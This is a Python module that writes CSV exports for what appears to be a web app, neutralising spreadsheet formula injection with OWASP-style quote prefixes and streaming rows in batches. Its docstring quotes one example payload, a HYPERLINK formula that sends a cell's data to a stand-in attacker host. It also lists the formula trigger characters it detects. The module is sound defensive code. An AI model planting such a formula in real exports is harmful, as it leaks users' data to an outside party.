"""The one CSV writer of every export (pack report, activity log, SMS logs in the API and the back office).

Spreadsheets run a cell that starts with `=`, `+`, `-` or `@` as a formula (and TAB, CR or LF in front of
one is skipped by some), so a pack note `=HYPERLINK("http://attacker.example/?"&B2, "Open")` planted by
any member would run on the master's machine when the export is opened. Following OWASP, such text cells
are written with a single quote in front, which spreadsheets show as text and do not evaluate.

Which cells are neutralised is decided by their Python type, not by their content:
- `str` is text that may come from users (names, notes, labels, ids, dates we formatted): neutralised
  when it starts with a trigger, so a note "-1+1" or "-5" is written '-1+1 / '-5;
- `int` and `Decimal` are numbers the exporter computed itself: written as plain numbers, never
  neutralised, so a negative balance stays -5 (or -0.05 at scale 2) and sums in a spreadsheet. Amounts
  at a credit type's scale are passed as `amount(value, scale)`, not as text formatted beforehand.

Rows are written a batch at a time to an iterator of UTF-8 bytes, so a StreamingResponse sends a large
export without holding it in memory.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from decimal import Decimal

from starlette.responses import StreamingResponse

Cell = str | int | Decimal | None

# Formula triggers (OWASP), with their full-width forms, which some spreadsheet locales also evaluate.
_FORMULA_START = "=+-@\uff1d\uff0b\uff0d\uff20"
# Control characters that may be skipped before a formula (or start one in some applications).
_CONTROL_START = "\t\r\n"
_FILENAME_UNSAFE = re.compile(r"[^A-Za-z0-9._-]")

FLUSH_ROWS = 200


def amount(value: int, scale: int) -> Decimal:
    """An integer amount at `scale` as a number cell (150 at scale 2 -> 1.50, -5 -> -0.05)."""
    return Decimal(value).scaleb(-scale)


def cell(value: Cell) -> str:
    """The text written for one cell: numbers as they are, text neutralised if it could run as a formula."""
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, int) and not isinstance(value, bool):
        return str(value)
    text = str(value)
    first = text.lstrip(" \u00a0")[:1]  # " =1+1" is still a formula to some spreadsheets
    if text[:1] in tuple(_CONTROL_START) or (first and first in _FORMULA_START):
        return "'" + text
    return text


def stream(header: Sequence[str], rows: Iterable[Sequence[Cell]], *, flush_rows: int = FLUSH_ROWS,
           bom: bool = False) -> Iterator[bytes]:
    """The CSV (RFC 4180, CRLF line ends) of `header` then `rows`, as UTF-8 chunks of `flush_rows` rows. `bom`:
    start with a byte order mark, so that Excel reads the file as UTF-8 ("Zoë", not "ZoÃ«")."""
    buffer = io.StringIO()
    if bom:
        buffer.write("\ufeff")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([cell(name) for name in header])
    for n, row in enumerate(rows, start=1):
        writer.writerow([cell(value) for value in row])
        if n % flush_rows == 0:
            yield buffer.getvalue().encode()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue().encode()


def response(header: Sequence[str], rows: Iterable[Sequence[Cell]], *, filename: str,
             bom: bool = False) -> StreamingResponse:
    """A streamed CSV download. Rows are produced while the response is sent: check access before. The back
    office's downloads (opened in spreadsheets) pass `bom=True`; the API's stay plain UTF-8 for scripts."""
    safe_name = _FILENAME_UNSAFE.sub("_", filename) or "export.csv"
    return StreamingResponse(stream(header, rows, bom=bom), media_type="text/csv; charset=utf-8",
                             headers={"Content-Disposition": f'attachment; filename="{safe_name}"',
                                      "Cache-Control": "no-store"})
